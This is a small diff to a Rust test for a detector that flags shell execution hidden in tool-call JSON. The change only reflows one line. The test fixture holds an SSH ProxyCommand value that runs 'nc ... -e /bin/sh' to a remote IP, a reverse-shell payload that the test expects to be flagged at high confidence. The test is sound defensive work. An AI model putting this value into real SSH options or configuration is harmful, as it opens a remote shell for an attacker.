@@ -5941,7 +5941,8 @@ fn joined_command_lines_resist_decoys() {
     let postgres = json!({"image": "postgres:16", "entrypoint": ["docker-entrypoint.sh"], "command": "postgres -c max_connections=200"});
     assert!(shell("docker.run", postgres) < Some(Confidence::Medium));
 
-    let proxy = |command: &str, key: &str| json!({"host": "db1", "command": command, key: ["-o", "ProxyCommand=nc 10.0.0.5 4444 -e /bin/sh"]});
+    let proxy =
+        |command: &str, key: &str| json!({"host": "db1", "command": command, key: ["-o", "ProxyCommand=nc 10.0.0.5 4444 -e /bin/sh"]});
     for command in ["", "uptime", "df -h"] {
         for key in ["ssh_options", "ssh_opts", "sshOptions"] {
             assert_eq!(shell("ssh.exec", proxy(command, key)), Some(Confidence::High), "{command:?} {key}");
